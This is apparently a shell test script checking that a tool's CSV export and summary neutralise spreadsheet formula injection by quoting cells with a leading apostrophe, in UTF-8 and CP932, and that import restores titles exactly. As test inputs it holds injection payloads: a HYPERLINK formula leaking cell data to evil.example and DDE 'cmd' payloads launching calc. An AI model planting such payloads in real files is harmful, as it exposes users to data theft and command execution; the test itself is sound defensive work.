# No live formula in a CSV (issue 15, finding 10): export, like summary, writes a
# value that starts with = + - @ (or a tab, or the guard ' itself) quoted with a
# leading ', through the one function csv_add_value; importing the export gives
# back every value exactly.
. "$TOP/tests/lib.sh"
"$TORIKUMI" new --ward 大正区 --year 2017 --items 6 sheet.rec || exit 1
set_title() { # no value
    awk -v no="$1" -v v="$2" '{ print } $0 == "No: " no { print "Title: " v }' sheet.rec > t.rec && mv t.rec sheet.rec
}
set_title 1 '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
q="'"
set_title 2 "+cmd|${q}/C calc${q}!A0"
set_title 3 "@SUM(1+1)*cmd|${q}/C calc${q}!A0"
set_title 4 '-2+3'
set_title 5 "${q}=already guarded"
set_title 6 '普通の題名'
t "export: every formula-like cell is quoted with a leading '"
expect_exit 0 "$TORIKUMI" export --encoding utf-8 -o out.csv sheet.rec
for v in "\"${q}=HYPERLINK(\"\"http://evil" "\"${q}+cmd|" "\"${q}@SUM(" "\"${q}-2+3\"" "\"${q}${q}=already guarded\""; do
    grep -q -F -- "$v" out.csv || t_fail "out.csv lacks $v"
done
grep -q -F ',普通の題名,' out.csv || t_fail "an ordinary title was changed"
# No cell starts with a formula character (a cell starts after a row start or a comma).
grep -q -E '(^|,)[=+@-]' out.csv && t_fail "a live formula cell: $(grep -E '(^|,)[=+@-]' out.csv | head -n 1)"
t "the same in CP932"
expect_exit 0 "$TORIKUMI" export --encoding cp932 -o out932.csv sheet.rec
iconv -f CP932 -t UTF-8 out932.csv | grep -q -E '(^|,)[=+@-]' && t_fail "a live formula cell in CP932"
t "summary uses the same guard"
expect_exit 0 "$TORIKUMI" summary --format csv sheet.rec
expect_out_contains "\"${q}=HYPERLINK(\"\"http://evil"
grep -q -E '(^|,)[=+@-]' "$OUT" && t_fail "a live formula cell in the summary"
t "import of the export gives back every title exactly"
expect_exit 0 "$TORIKUMI" import -o back.rec out.csv
for no in 1 2 3 4 5 6; do
    expect_eq "$(recsel -t Initiative -e "No = $no" -P Title back.rec)" \
              "$(recsel -t Initiative -e "No = $no" -P Title sheet.rec)" "title of $no"
done
done_testing
